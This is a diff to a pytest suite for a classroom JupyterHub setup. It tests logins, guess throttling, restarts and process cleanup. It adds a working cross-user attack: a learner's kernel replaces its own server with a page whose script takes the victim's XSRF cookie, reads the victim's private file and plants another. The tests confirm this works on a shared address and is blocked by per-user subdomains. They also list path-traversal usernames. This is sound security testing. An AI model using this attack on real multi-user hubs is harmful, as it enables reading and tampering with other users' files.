@@ -1,5 +1,6 @@
 """The class's hub as it is: started, logged into, attacked, updated and ended."""
 
+import asyncio
 import contextlib
 import http.client
 import json
@@ -8,11 +9,12 @@ import re
 import shutil
 import signal
 import socket
-import sqlite3
 import stat
 import subprocess
 import sys
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
+from types import SimpleNamespace
 from urllib.parse import parse_qs, unquote, urlsplit
 
 import pytest
@@ -44,13 +46,18 @@ def test_on_windows_it_says_what_to_do():
 
 
 if os.name != "nt":  # where JupyterHub runs
+    import leftovers
     import psutil
     import requests
+    import trial
     import websocket
-    from door import folder_name, is_name, normalized, own_password, read_names
+    from door import folder_name, is_name, normalized, own_password, public_url, read_names
+    from jupyterhub.app import JupyterHub
+    from jupyterhub.spawner import SpawnException
     from learner import course_files, digest, give
     from learners import Hub, Learner
     from links import pull_link
+    from traitlets.config import PyFileConfigLoader
 
     STRANGE = ["../x", "..", "a/b", "a\\b", ".x", "%2e%2e", "~root", "a\x00b", "x" * 65, "\uff0fx"]
     UNUSUAL = ["zoë ünal", "李 雷", "o'neil", "y" * 64]
@@ -90,6 +97,63 @@ if os.name != "nt":  # where JupyterHub runs
         (tmp_path / "names.txt").write_text(text, encoding="utf-8")
         with pytest.raises(ValueError, match=r"'anna'|'\.\./x'|there is no name"):
             read_names(tmp_path / "names.txt")
+
+    def test_guesses_at_a_name_wait_for_each_other_and_nobody_for_them(monkeypatch):
+        monkeypatch.setattr(trial, "WAIT", 0.01)
+        door = trial.slow(trial.ClassAuthenticator)(user_password="the right one")
+        answered = []
+
+        async def try_(name, word, address):
+            handler = SimpleNamespace(request=SimpleNamespace(remote_ip=address))
+            found = await door.authenticate(handler, {"username": name, "password": word})
+            answered.append((name, found, address))
+
+        async def all_at_once():
+            guesses = [try_("Anna", "wörd", "::1"), try_("anna ", "word", "::1")]
+            right = [(name, "the right one", at) for name, at in [("anna", "::1"), ("anna", "::2")]]
+            await asyncio.gather(
+                *guesses, *(try_(*each) for each in [*right, ("ben", *right[0][1:])])
+            )
+
+        asyncio.run(all_at_once())
+        assert answered == [
+            ("anna", "anna", "::2"),
+            ("ben", "ben", "::1"),
+            ("Anna", None, "::1"),
+            ("anna ", None, "::1"),
+            ("anna", "anna", "::1"),
+        ]
+
+    def test_without_a_password_nobody_gets_in():
+        door = trial.ClassAuthenticator(own_passwords=True)
+        data = {"username": "anna", "password": own_password("", "anna")}
+        assert asyncio.run(door.authenticate(None, data)) is None
+
+    @pytest.mark.parametrize("spawner", ["trial", "system"])
+    def test_every_hub_begins_anew_and_keeps_learners_apart(tmp_path, monkeypatch, spawner):
+        (tmp_path / "names").write_text("anna")
+        settings = {"SPAWNER": spawner, "HUB": str(tmp_path), "NAMES": str(tmp_path / "names")}
+        settings |= {"PROXY": "proxy", "PASSWORD": "the class word", "SUBDOMAIN": "hub.localhost"}
+        for name, value in settings.items():
+            monkeypatch.setenv(f"COURSE_{name}", value)
+        loader = PyFileConfigLoader("jupyterhub_config.py", str(CLASSROOM))
+        hubs = [JupyterHub(config=loader.load_config()) for _ in range(2)]
+        assert len({hub.cookie_secret for hub in hubs}) == 2
+        assert hubs[0].db_url == "sqlite:///:memory:"
+        assert hubs[0].subdomain_host == "http://hub.localhost:8000"
+        door = hubs[0].authenticator_class(config=hubs[0].config)
+        assert [door.check_allowed(name) for name in ("anna", "bert")] == [True, False]
+        assert hubs[0].config.Spawner.disable_user_config is True
+
+    def test_a_usual_port_is_left_out_of_the_address():
+        tls = {"COURSE_TLS_KEY": "/k", "COURSE_PORT": "443", "COURSE_SUBDOMAIN": "hub.example.org"}
+        assert public_url(tls) == "https://hub.example.org"
+        assert public_url({"COURSE_PORT": "443", "COURSE_ADDRESS": "::1"}) == "http://[::1]:443"
+
+    def test_a_full_disk_gives_a_sentence():
+        full = next(place for place in ("/proc", "/dev") if shutil.disk_usage(place).free == 0)
+        with pytest.raises(SpawnException, match="The disk of this hub is full: ask for room"):
+            asyncio.run(trial.TrialSpawner(homes=full).start())
 
     # What a learner gets, without a hub -----------------------------------------------------
 
@@ -183,6 +247,9 @@ if os.name != "nt":  # where JupyterHub runs
         for part in ("binder", "classroom", "notebooks"):
             made = shutil.ignore_patterns("__pycache__", ".*", "progress*", "run_*")
             shutil.copytree(ROOT / part, folder / part, ignore=made)
+        with open(folder / "classroom/jupyterhub_config.py", "a", encoding="utf-8") as file:
+            file.write("c.Spawner.args.append('--LabApp.expose_app_in_browser=True')\n")
+            file.write("c.Spawner.poll_interval = 600  # time for an attack on a busy machine\n")
         return folder
 
     @pytest.fixture(scope="module")
@@ -210,6 +277,8 @@ if os.name != "nt":  # where JupyterHub runs
         assert urlsplit(hub.url).hostname == LOOPBACK
         assert len(hub.password) == 14
         assert stat.S_IMODE(hub.folder.stat().st_mode) == 0o700
+        assert ("You are root" in " ".join(hub.said)) == (os.geteuid() == 0)
+        assert "Using Authenticator: trial.Slow" in hub.log()
 
     @pytest.mark.parametrize("password", ["", "wrong", "pässwörd", "x" * 10_000])
     def test_a_wrong_password_is_refused(hub, password):
@@ -226,16 +295,16 @@ if os.name != "nt":  # where JupyterHub runs
     def test_a_strange_name_is_not_let_in(hub, name):
         assert Learner(hub, name).log_in(hub.password).status_code == 403
         made = {path.name for path in hub.folder.rglob("*") if "sqlite" not in path.name}
-        assert made == {"learners", "hub.log", "lock", "cookie_secret", "proxy.pid"}
+        assert made == {"learners", "hub.log", "lock", "proxy.pid", "sockets"}
 
     @pytest.mark.parametrize("name", UNUSUAL)
     def test_an_unusual_name_is_let_in(hub, name):
         assert Learner(hub, name.upper()).log_in(hub.password).status_code == 302
 
-    def test_a_learner_gets_the_course(hub, anna):
+    def test_a_learner_gets_the_course(hub, anna, teacher):
         mine = hub.folder / "learners/anna/course"
-        for name in course_files(ROOT):
-            assert (mine / name).read_bytes() == (ROOT / name).read_bytes()
+        for name in course_files(teacher):
+            assert (mine / name).read_bytes() == (teacher / name).read_bytes()
         listed = anna.api("GET", "contents/notebooks").json()["content"]
         assert {"00_start_here.ipynb", "data", "glossary.md"} <= {each["name"] for each in listed}
 
@@ -305,6 +374,8 @@ if os.name != "nt":  # where JupyterHub runs
         home = hub.folder / "learners/ben/course"
         home.mkdir(parents=True)
         (home / "random.py").write_text("raise SystemExit('this is mine')")
+        (home.parent / ".jupyter").mkdir()
+        (home.parent / ".jupyter/jupyter_server_config.py").write_text("raise SystemExit('mine')")
         assert "jupyter-config-data" in ben.start_server().text
 
     def server_of(hub, name):
@@ -373,13 +444,9 @@ if os.name != "nt":  # where JupyterHub runs
         assert f"kill {hub.part('-m jupyterhub ').pid}" in said
 
     def test_a_learner_logs_in_and_runs_a_notebook_in_a_browser(hub, chromium):
-        from lab import READY, RUN_ALL, RUN_MS
+        from lab import GIVEN_UP, READY, RUN_ALL, RUN_MS
 
         home = hub.folder / "learners" / folder_name("zoë ünal")
-        settings = home / ".jupyter"
-        settings.mkdir(parents=True)
-        text = "c.LabApp.expose_app_in_browser = True\n"
-        (settings / "jupyter_server_config.py").write_text(text)
         page, hosts, problems = chromium.new_page(), set(), []
         page.on("request", lambda request: hosts.add(urlsplit(request.url).hostname))
         page.on("pageerror", lambda error: problems.append(str(error)))
@@ -401,8 +468,85 @@ if os.name != "nt":  # where JupyterHub runs
         assert page.evaluate("window.course.errors") == []
         assert page.locator(".jp-Dialog, .Toastify__toast").all_inner_texts() == []
         assert hosts <= {LOOPBACK, None, ""}
-        assert problems == []
+        assert [problem for problem in problems if problem != GIVEN_UP] == []
         page.close()
+
+    # A learner replaces the own server by this, and waits for another one to press the button.
+    ATTACKER = """
+import http.server, os, sys, time, urllib.parse
+page, server = sys.argv[1:]
+door = "127.0.0.1", urllib.parse.urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"]).port
+os.kill(int(server), 9)
+
+class Page(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.end_headers()
+        self.wfile.write(page.encode())
+
+while True:
+    try:
+        place = http.server.ThreadingHTTPServer(door, Page)
+        break
+    except OSError:
+        time.sleep(0.05)
+place.serve_forever()
+"""
+    PAGE = """<button>A prize</button><script>
+document.querySelector("button").onclick = () => {
+    const home = "HOME", opened = window.open(home + "lab");
+    const file = (name, more) => fetch(home + "api/contents/" + name, more);
+    const look = async () => {
+        try {
+            const found = /_xsrf=([^;]+)/.exec(opened.document.cookie);
+            if (!found) return setTimeout(look, 50);
+            const headers = {"X-XSRFToken": found[1]};
+            const read = await (await file("private.txt", {headers})).json();
+            const body = JSON.stringify({type: "file", format: "text", content: "planted"});
+            const put = await file("planted.txt", {method: "PUT", headers, body});
+            document.title = `${read.content} ${put.status}`;
+        } catch (error) { document.title = error.name; }
+    };
+    file("private.txt", {credentials: "include"}).then(
+        answer => look(document.plain = answer.status), error => look(document.plain = error.name));
+};
+</script>"""
+
+    def attack(hub, attacker, victim, secret, browser):
+        """Let a learner's page act on the server of one who opens it; return what it told."""
+        mine = hub.folder / "learners" / folder_name(victim) / "course"
+        page = browser.new_context().new_page()
+        page.goto(f"{hub.url}hub/login")
+        page.get_by_label("Username").fill(victim)
+        page.get_by_label("Password").fill(secret)
+        page.get_by_role("button", name="Sign in").click()
+        page.wait_for_url("**/user/*/lab**", timeout=300_000)
+        home = page.url.split("lab")[0]
+        (mine / "private.txt").write_text("a diary")
+        code = PAGE.replace("HOME", home)
+        attacker.start_server()
+        kernel = attacker.open_kernel(START)
+        with contextlib.suppress(websocket.WebSocketException):  # with the server it is gone
+            kernel.run(
+                "import os, subprocess, sys\n"
+                f"command = [sys.executable, '-c', {ATTACKER!r}, {code!r}, str(os.getppid())]\n"
+                "subprocess.Popen(command, start_new_session=True)"
+            )
+        prize = f"{attacker.home}a/prize"
+        tries = (attacker.request("GET", prize).text for _ in range(2000))
+        assert any("A prize" in text for text in tries)  # from now on
+        page.goto(hub.at(prize))
+        page.get_by_role("button", name="A prize").click()
+        page.wait_for_function("document.title", timeout=60_000)
+        told = page.title(), page.evaluate("document.plain")
+        page.context.close()
+        return told, (mine / "planted.txt").exists()
+
+    def test_one_address_for_all_lets_a_page_act_as_whoever_opens_it(hub, anna, ben, chromium):
+        """What SECURITY.md admits, and why COURSE_SUBDOMAIN is there."""
+        told = attack(hub, ben, "anna", hub.password, chromium.browser)
+        assert told == (("a diary 201", 403), True)
 
     def test_work_survives_a_restart_and_a_new_version(hub, anna, teacher):
         """The last test of the hub: it ends it, and starts it again with names and little time."""
@@ -415,7 +559,14 @@ if os.name != "nt":  # where JupyterHub runs
         edited = (mine / "01_data.ipynb").read_bytes()
         assert b"# Anna was here" in edited
 
+        xsrf = {"_xsrf": anna.xsrf("hub/")}
+        asked = anna.request("POST", "hub/api/users/anna/tokens", params=xsrf)
+        token = {"Authorization": f"token {asked.json()['token']}"}
+        assert requests.get(f"{hub.url}hub/api/user", headers=token).json()["name"] == "anna"
+        assert anna.request("GET", "hub/api/user").json()["name"] == "anna"
+
         processes, sockets = hub.processes(), server_of(hub, "anna").environ()["COURSE_SOCKETS"]
+        before = hub.log()
         hub.stop()
         _, alive = psutil.wait_procs(processes, timeout=20)
         assert alive == []
@@ -436,6 +587,10 @@ if os.name != "nt":  # where JupyterHub runs
             COURSE_IDLE="2",
         )
         try:
+            assert (hub.folder / "hub-before.log").read_text("utf-8").startswith(before)
+            anna.hub = later  # on the list, but with a cookie and a token of the last hub
+            assert anna.request("GET", "hub/api/user").status_code == 403
+            assert requests.get(f"{later.url}hub/api/user", headers=token).status_code == 403
             again = Learner(later, "anna")
             assert again.log_in(own_password("the same all week", "ben")).status_code == 403
             assert again.log_in("the same all week").status_code == 403
@@ -447,36 +602,52 @@ if os.name != "nt":  # where JupyterHub runs
             assert "Culling server anna" in later.log()
             assert (mine / "01_data.ipynb").read_bytes() == edited
             [beside] = mine.glob("01_data-new-*.ipynb")
-            assert beside.read_bytes() == (ROOT / START).read_bytes()
+            assert beside.read_bytes() == new[0].read_bytes()
             assert (mine / "11_new.ipynb").is_file()
         finally:
             later.stop()
 
-    def test_after_a_kill_nothing_lives_and_the_next_hub_works(tmp_path):
-        """The hub is killed as by a full memory; its numbers now belong to somebody else."""
-        folder = tmp_path / "killed"
-        hub = Hub(folder)
+    def test_two_hubs_at_one_port_and_a_kill_leave_one_that_works(tmp_path, teacher, chromium):
+        """Both start at once; one is refused, one is killed as by a full memory, and comes back."""
+        with socket.socket() as door:
+            door.bind((LOOPBACK, 0))
+            port = str(door.getsockname()[1])
+
+        def start(folder):
+            with contextlib.suppress(RuntimeError):
+                return Hub(folder, root=teacher, COURSE_PORT=port)
+
+        folders = [tmp_path / "one", tmp_path / "other"]
+        with ThreadPoolExecutor() as pool:
+            hubs = list(pool.map(start, folders))
+        [hub] = filter(None, hubs)
+        assert leftovers.end(folders[hubs.index(None)]) == 0  # the refused one ended what it began
+
         anna = Learner(hub, "anna")
-        anna.log_in(hub.password)
+        assert anna.log_in(hub.password).status_code == 302  # it is the one that told this password
         anna.start_server()
+        sockets = Path(server_of(hub, "anna").environ()["COURSE_SOCKETS"])
         left = [process for process in hub.processes() if process.pid != hub.process.pid]
         assert len(left) >= 4  # the hub, its proxy, the culler, a server
         os.kill(hub.process.pid, signal.SIGKILL)  # who would have tidied up
         hub.part_of(left, "-m jupyterhub ").kill()
         hub.process.wait()
         bystander = subprocess.Popen([sys.executable, "-c", "input()"], stdin=subprocess.PIPE)
-        with contextlib.closing(sqlite3.connect(folder / "hub.sqlite")) as kept, kept:
-            kept.execute("UPDATE spawners SET state = ?", [json.dumps({"pid": bystander.pid})])
-        (folder / "proxy.pid").write_text(str(bystander.pid))
-        port = str(urlsplit(hub.url).port)
-        later = Hub(folder, COURSE_PORT=port, COURSE_PASSWORD=hub.password)
+        (hub.folder / "proxy.pid").write_text(str(bystander.pid))
+        words = {"COURSE_PASSWORD": hub.password, "COURSE_SUBDOMAIN": "hub.localhost"}
+        later = Hub(hub.folder, root=teacher, COURSE_PORT=port, **words)
         try:
             assert f"{len(left) - 1} processes that it left have been ended" in later.said[0]
             assert psutil.wait_procs(left, timeout=20)[1] == []
+            assert not sockets.exists()
+            assert bystander.poll() is None
+            assert later.url == f"http://hub.localhost:{port}/"
             again = Learner(later, "anna")
             assert again.log_in(hub.password).status_code == 302
             assert "jupyter-config-data" in again.start_server().text
-            assert bystander.poll() is None
+            # Each learner has an address of their own, so what one puts there reaches nobody else.
+            told = attack(later, again, "zoë ünal", hub.password, chromium.browser)
+            assert told == (("SecurityError", "TypeError"), False)
         finally:
             later.stop()
             bystander.communicate(b"\n")
